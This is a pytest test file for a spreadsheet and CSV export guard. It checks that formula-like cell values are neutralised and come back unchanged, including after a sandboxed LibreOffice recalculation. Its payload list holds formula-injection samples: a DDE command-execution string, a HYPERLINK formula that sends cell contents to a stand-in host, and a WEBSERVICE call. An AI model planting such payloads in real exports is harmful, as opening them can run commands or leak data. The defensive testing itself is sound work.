"""Nothing that is written is a formula, whoever opens it, and it comes back as it went out."""

import csv
import io
import itertools
import re
import shutil
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from baiju import jail
from baiju.workbook import guard, separated

from .test_writing import HEADS, by_calamine, by_openpyxl, written

PAYLOADS = (
    *("=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://x/?"&A1)', '=WEBSERVICE("http://x")'),
    *("@SUM(1)", "-2+3", "+1+1", "＝1+1", "＋1", "－1", "＠x"),
    *("\t=1+1", "\r=1+1", '"=1"', ";=1", "\u3000 =1+1"),
)
CONVERT = """
cat > /tmp/given.xlsx
soffice -env:UserInstallation=file:///tmp/profile --headless --norestore --nolockcheck \
    --convert-to fods --outdir /tmp/made /tmp/given.xlsx >&2
cat /tmp/made/given.fods
"""


def has_calc():
    """LibreOffice comes in parts; the one that knows workbooks may be missing."""
    office = shutil.which("soffice")
    return bool(office) and (Path(office).resolve().parent / "libsclo.so").exists()


recalculates = pytest.mark.skipif(
    not has_calc() or not jail.walls.stand(),
    reason="LibreOffice Calc or bubblewrap is missing here, so nobody recalculates the workbook",
)


def grid():
    """Every payload in every column, beside harmless texts."""
    for payload, column in itertools.product(PAYLOADS, range(len(HEADS))):
        yield [payload if at == column else "张三" for at in range(len(HEADS))]


def test_no_payload_is_a_formula_in_any_column():
    book = openpyxl.load_workbook(io.BytesIO(written(*grid())))

    cells = [cell for row in book.active.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sum(cell.value.startswith("'") for cell in cells) == len(PAYLOADS) * len(HEADS)


@recalculates
def test_libreoffice_recalculates_and_finds_no_formula():
    """Slow: LibreOffice starts once, in the jail. It finds the one that another writer lets live."""
    live = openpyxl.Workbook()
    live.active.append(["=1+1"])
    peer = io.BytesIO()
    live.save(peer)

    ours, others = (
        jail.run(["/bin/sh", "-ec", CONVERT], data, seconds=120, memory=3 << 30)
        for data in (written(*grid()), peer.getvalue())
    )

    assert others.count(b"table:formula") == 1
    assert ours.count(b"table:formula") == 0
    assert ours.count(b"&apos;") >= len(PAYLOADS) * len(HEADS)


def test_a_payload_comes_back_as_it_went_out():
    rows = list(grid())

    for found in (by_openpyxl(written(*rows)), by_calamine(written(*rows))):
        assert [[guard.bare(cell) for cell in row] for row in found] == rows


@given(st.text())
def test_the_guard_comes_off_exactly_once(text):
    for once in (text, "'" + text, "'=" + text, "''+" + text, " '\"-" + text, "'\t" + text):
        shown = guard.guarded(once)

        assert guard.bare(shown) == once
        assert shown in (once, "'" + once)
        assert shown == once or guard.is_live(once)


def test_a_csv_file_opens_in_office_programs_and_holds_no_formula():
    rows = [
        *grid(),
        ["张三", 5, Decimal("1E+2"), date(2026, 3, 1)],
        [None, True, datetime(2026, 3, 1), -5],
    ]

    data = b"".join(separated.chunks([head.title for head in HEADS], rows))

    assert data.startswith(b"\xef\xbb\xbf")
    found = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert [[guard.bare(cell) for cell in row] for row in found[: len(rows) - 2]] == rows[:-2]
    assert found[-2:] == [
        ["张三", "5", "100", "2026-03-01"],
        ["", "true", "2026-03-01 00:00:00", "-5"],
    ]
    live = re.compile(r"[=+@＝＋－＠\t\r]|-[^5]")
    assert not [cell for row in found for cell in row if live.match(cell)]
